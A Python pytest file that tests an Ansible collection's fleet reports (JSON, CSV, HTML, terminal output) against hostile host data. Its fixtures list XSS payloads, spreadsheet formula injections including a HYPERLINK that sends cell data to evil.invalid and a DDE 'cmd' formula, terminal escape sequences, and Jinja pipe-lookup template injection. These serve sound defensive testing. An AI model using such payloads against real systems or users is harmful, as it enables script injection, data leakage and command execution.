# SPDX-License-Identifier: GPL-2.0-or-later
"""A host that belongs to somebody else by now, and chooses every word it says: its row tells so, and nothing else happens."""
import csv
import html.parser
import json
import re
import unicodedata

import pytest

from fleet import HERE, ONE
from support import environment, must, run
from test_page import ROW

TAKEN = "document.title='taken'"
MARKUP = [f"<script>{TAKEN}</script>", f"</td></table></script><script>{TAKEN}</script>", f"<img src=x onerror=\"{TAKEN}\">",
          f"\"><svg onload=\"{TAKEN}\">", f"' onmouseover='{TAKEN}' autofocus onfocus='{TAKEN}", f"<!--<script>{TAKEN}//-->",
          f"</title><script>{TAKEN}</script>", f"</style><script>{TAKEN}</script>", f"<iframe srcdoc='<script>parent.{TAKEN}</script>'>",
          f"<a href=\"javascript:{TAKEN}\" autofocus>x</a>", "<meta http-equiv=refresh content=0;url=//evil.invalid>", "&lt;b&gt;"]
FORMULAS = ["=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1",
            "a;=1+1", "a; \"=1+1", "\"=1+1", "\uff1d1+1", "=cmd|'/C calc'!A0"]
CONTROL = ["\x1b[2J\x1b]0;taken\x07", "a\x00b", "a\x9bb", "safe\u202egnp.exe", "a\u2028b", "lone \ud800 surrogate", "\ufeffbom", "a\rb\nc"]
TEMPLATES = ["{{ 7 * 7 }}", "{% for x in range(9) %}x{% endfor %}", "{{ lookup('ansible.builtin.pipe', 'touch CANARY') }}"]
TYPES = [5, -1, 0, 1.5, float("nan"), float("inf"), True, [], [1, [2]], {}, {"a": {"b": None}}, "", "x" * 300_000, 10 ** 400]
PLAIN = [5, -1, 0, 1.5, True, [], [1, [2]], {}, {"a": {"b": None}}, "", None]  # what Ansible's variables can hold
FIELDS = ("role", "state", "daemon", "product", "version", "uuid", "block_sha256", "file", "message", "pending_reboot", "host", "site", "pool")
GOOD = {"role": "master", "state": "applied", "daemon": "agrees", "product": "XCP-ng 8.3.0", "version": "1.0.0", "uuid": "0" * 36,
        "block_sha256": "5" * 64, "file": "/etc/multipath/conf.d/x.conf", "message": None, "pending_reboot": False}
TRIGGER = re.compile(r"[\s\"]*[-=+@\uff0b\uff0d\uff1d\uff20]")


def strangers(canary):
    """name -> the variables of a host: each hostile value in each field, and answers of no shape at all."""
    values = MARKUP + FORMULAS + CONTROL + TYPES + [text.replace("CANARY", str(canary)) for text in TEMPLATES]
    fleet = {"good": {"suppack_site": "ams", "suppack_pool": "a", "suppack_seen": {"host": GOOD}}}
    for number, value in enumerate(values):
        for field in FIELDS:
            fleet[f"v{number}-{field}"] = {"suppack_site": "ams", "suppack_pool": f"v{number}",
                                           "suppack_seen": {"host": {**GOOD, field: value}}}
        fleet[f"v{number}-msg"] = {"suppack_seen": {"failed": True, "msg": value}}
        fleet[f"v{number}-answer"] = {"suppack_seen": {"host": value}}
        fleet[f"v{number}-seen"] = {"suppack_seen": value}
        fleet[f"v{number}-inventory"] = {"suppack_site": value, "suppack_pool": value, "suppack_seen": {"host": GOOD}}
    for field in FIELDS[:-3]:
        fleet[f"without-{field}"] = {"suppack_seen": {"host": {key: value for key, value in GOOD.items() if key != field}}}
    fleet["nothing"] = {}
    return fleet


@pytest.fixture(scope="module")
def canary(tmp_path_factory):
    return tmp_path_factory.mktemp("canary") / "taken"


@pytest.fixture(scope="module")
def told(canary):
    return strangers(canary)


@pytest.fixture(scope="module")
def reports(told, collection, tmp_path_factory):
    """The folder of the reports."""
    work = tmp_path_factory.mktemp("reports")
    (work / "table.json").write_text(json.dumps(told))
    values = {"table": str(work / "table.json"), "folder": str(work),
              "collection": str(collection / "ansible_collections/suppack/rollout")}
    must(["ansible-playbook", "-i", "localhost,", "-c", "local", HERE / "hostile.yml", "-e", json.dumps(values)],
         env=environment(HOME=work, ANSIBLE_HOME=work / "home", ANSIBLE_COLLECTIONS_PATH=collection, LC_ALL="C.UTF-8"))
    return work


@pytest.fixture
def title(tmp_path):
    """title(page) -> its title once its scripts had their time, in a real browser."""
    def show(page):
        dom = run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile",
                   "--virtual-time-budget=2000", "--dump-dom", f"file://{page}"], env=environment(HOME=tmp_path))
        assert dom.returncode == 0, dom.stderr
        return re.search(r"<title>(.*?)</title>", dom.stdout, re.S)[1], dom.stdout
    return show


class Tags(html.parser.HTMLParser):
    """What a page is made of: .found, [(tag, [(attribute, value)])]"""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def strict(text):
    """JSON without what JSON does not have."""
    def refuse(word):
        raise AssertionError(f"{word} is no JSON")
    return json.loads(text, parse_constant=refuse)


def harmless(text):
    return not [char for char in text if unicodedata.category(char)[0] == "C" or char in "\u2028\u2029"]


def test_each_host_has_its_row(reports, told):
    """None is lost, none is another, and who says what no host of ours says is told."""
    rows = {row["host"]: row for row in strict((reports / "fleet.json").read_text())["hosts"]}
    assert list(rows) == list(told)
    assert rows["good"] == {**{key: value for key, value in GOOD.items() if key != "message"}, "host": "good", "site": "ams", "pool": "a",
                            "error": None, "ok": True}
    for name, row in rows.items():
        assert set(row) == set(rows["good"]), name
        assert all(isinstance(value, (str, bool, type(None))) and harmless(str(value)) and len(str(value)) < 3000
                   for value in row.values()), row
        number, _, field = name.partition("-")
        if field in ("host", "site", "pool"):
            assert (row["host"], row["site"], row["pool"]) == (name, "ams", number), "the inventory says where a host is"
        if field in ("role", "state", "version") and number != "without":
            assert not row["ok"] and row["state"] == "unknown" and f"'{field}' is " in row["error"], row


def test_a_number_as_a_state(reports):
    rows = {row["host"]: row for row in strict((reports / "fleet.json").read_text())["hosts"]}
    number = next(index for index, value in enumerate(MARKUP + FORMULAS + CONTROL + TYPES) if value == 5)
    assert rows[f"v{number}-state"]["error"] == "the host's answer is not one of this collection's: 'state' is 5"


def test_nothing_is_a_template(collection, canary, tmp_path):
    """Wherever rows and waves go: a host's words in a sentence of ours, which Ansible would take for our own."""
    (tmp_path / "play.yml").write_text("""
- hosts: localhost
  gather_facts: false
  tasks:
    - ansible.builtin.set_fact: {suppack_seen: "{{ lookup('ansible.builtin.file', answer) | from_json }}"}
    - ansible.builtin.set_fact: {table: "{{ ['localhost'] | suppack.rollout.rows(hostvars, {}) }}"}
    - ansible.builtin.set_fact: {order: "{{ table | suppack.rollout.waves }}"}
    - ansible.builtin.debug: {msg: "{{ [table, order] }}"}
""")
    (tmp_path / "answer.json").write_text(json.dumps({"failed": True, "msg": TEMPLATES[2].replace("CANARY", str(canary))}))
    done = must(["ansible-playbook", "-i", "localhost,", "-c", "local", tmp_path / "play.yml", "-e", f"answer={tmp_path}/answer.json"],
                env=environment(HOME=tmp_path, ANSIBLE_HOME=tmp_path / "home", ANSIBLE_COLLECTIONS_PATH=collection, LC_ALL="C.UTF-8"))
    assert not canary.exists(), "a host's words were run on the control node"
    assert done.stdout.count("{{ lookup('ansible.builtin.pipe', 'touch ") == 2, done.stdout


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_holds_no_formula(reports, told, delimiter):
    """Also where spreadsheets take a semicolon for the separator."""
    text = (reports / "fleet.csv").read_bytes().decode("utf-8")
    assert harmless(text.replace("\r\n", ""))
    lines = list(csv.reader(text.splitlines(), delimiter=delimiter))
    assert [] == [cell for line in lines for cell in line if TRIGGER.match(cell)]
    if delimiter == ",":
        assert [line[0] for line in lines] == ["host", *told]
        assert "'=HYPERLINK(" in text and "'=1+1" in text


def test_page_runs_nothing(reports, told, title):
    name, dom = title(reports / "fleet.html")
    assert name == f"osnexus-quantastor-multipath: {len(told)} hosts"
    assert len(ROW.findall(dom)) == len(told) and f"{len(told)} of {len(told)} shown" in dom
    parser = Tags()
    parser.feed(dom)
    assert {tag for tag, _ in parser.found} == {"html", "head", "meta", "title", "style", "body", "header", "h1", "small", "p", "span", "b",
                                                "label", "input", "select", "option", "output", "table", "thead", "tr", "th", "button",
                                                "tbody", "td", "script"}
    assert [tag for tag, _ in parser.found].count("script") == 1
    assert {name for _, attributes in parser.found for name, _ in attributes} <= {
        "lang", "charset", "name", "content", "http-equiv", "class", "type", "id", "placeholder", "autofocus", "value", "scope", "title"}
    assert "&lt;script&gt;" in dom


def test_page_would_run_nothing_even_so(reports, title, tmp_path):
    """The second wall: markup that got in all the same does not run, and without that wall this test would see it."""
    page = (reports / "fleet.html").read_text()
    policy = re.search(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", page)[0]
    for markup in (f"<script>{TAKEN}</script>", f"<svg onload=\"{TAKEN}\"></svg>", f"<img src=x onerror=\"{TAKEN}\">"):
        broken = page.replace("<tbody>", markup + "<tbody>")
        (tmp_path / "x.html").write_text(broken)
        assert title(tmp_path / "x.html")[0] != "taken"
        (tmp_path / "x.html").write_text(broken.replace(policy, ""))
        assert title(tmp_path / "x.html")[0] == "taken"


@pytest.mark.parametrize("field", ["role", "state", "site", "block_sha256", "error", "ok"])
def test_page_alone_takes_any_row(collection, title, tmp_path, field):
    """Rows nobody made harmless: the page is the last one who could."""
    row = {"host": "h", "site": "s", "pool": "p", **GOOD, "error": None, "ok": False}
    rows = [row] + [{**row, field: value} for value in MARKUP + FORMULAS + PLAIN] + [{key: row[key] for key in row if key != field}]
    (tmp_path / "rows.json").write_text(json.dumps(rows))
    values = {"table": str(tmp_path / "rows.json"), "page": str(tmp_path / "x.html"),
              "collection": str(collection / "ansible_collections/suppack/rollout")}
    must(["ansible-playbook", "-i", "localhost,", "-c", "local", HERE / "page.yml", "-e", json.dumps(values)],
         env=environment(HOME=tmp_path, ANSIBLE_HOME=tmp_path / "home", LC_ALL="C.UTF-8"))
    name, dom = title(tmp_path / "x.html")
    assert name.endswith(f"{len(rows)} hosts") and len(ROW.findall(dom)) == len(rows) and dom.count("<script") == 1


# ---- real hosts, one of which lies to Ansible itself --------------------------------------------------------
LIAR = "ams-a1"


@pytest.fixture
def liar(fleet):
    """liar(answer): the host answers that to whatever it is asked, its Python being another program."""
    machine, variables = fleet[LIAR], fleet.scratch / "host_vars"
    variables.mkdir()
    (variables / f"{LIAR}.json").write_text(json.dumps({"ansible_python_interpreter": "/root/liar"}))
    machine.must("/bin/sh", "-c", "printf '#!/bin/sh\\ncat >/dev/null\\ncat /root/answer\\n' >/root/liar; chmod 755 /root/liar")

    def answer(what):
        text = what if isinstance(what, str) else json.dumps(what)
        machine.must("/bin/sh", "-c", "cat >/root/answer", stdin=None, input=text)
    yield answer
    machine.must("rm", "/root/liar", "/root/answer")
    (variables / f"{LIAR}.json").unlink()
    variables.rmdir()


FACTS = {"suppack_pool": "fra-a", "suppack_site": "fra", "suppack_check_command": "false"}
ANSWERS = {"facts": {"host": GOOD, "ansible_facts": FACTS}, "text for a list": {"host": GOOD, "warnings": 5, "stdout": 5},
           "lists": {"host": [1], "before": 5, "changed": "x", "msg": {}},
           "deep": '{"host":' + "[" * 100_000 + "]" * 100_000 + "}", "NaN": '{"host": {"state": NaN}}',
           "a surrogate": '{"host": {"role": "master", "state": "drifted", "message": "\\ud800"}}'}


@pytest.mark.parametrize("name", ANSWERS)
def test_report_with_a_host_that_lies(fleet, control, liar, tmp_path, name):
    liar(ANSWERS[name])
    done = control.play("suppack.rollout.report", suppack_report_dir=tmp_path, suppack_label="osnexus-quantastor-multipath")
    assert done.returncode == 0, done.stdout
    rows = {row["host"]: row for row in strict((tmp_path / "fleet.json").read_text())["hosts"]}
    assert set(rows) == set(fleet.machines)
    assert {rows[host]["state"] for host in rows if host != LIAR} == {"absent"}
    assert (rows[LIAR]["site"], rows[LIAR]["pool"]) == ("ams", "ams-a")
    assert len((tmp_path / "fleet.csv").read_text().splitlines()) == len(rows) + 1 and LIAR in (tmp_path / "fleet.html").read_text()


def test_terminal_is_not_obeyed(control, artifact, liar):
    liar({"changed": True, "host": {**GOOD, "state": "absent"}, "before": {}, "diff": {"prepared": "+\x1b[2Jx\n\x9b2J"},
          "msg": "\x1b]0;taken\x07"})
    done = control.play(ONE, "--check", "--diff", target=LIAR, **artifact.variables)
    assert "\\u001b[2Jx" in done.stdout and not re.search("[\x1b\x9b\x07]", done.stdout), done.stdout
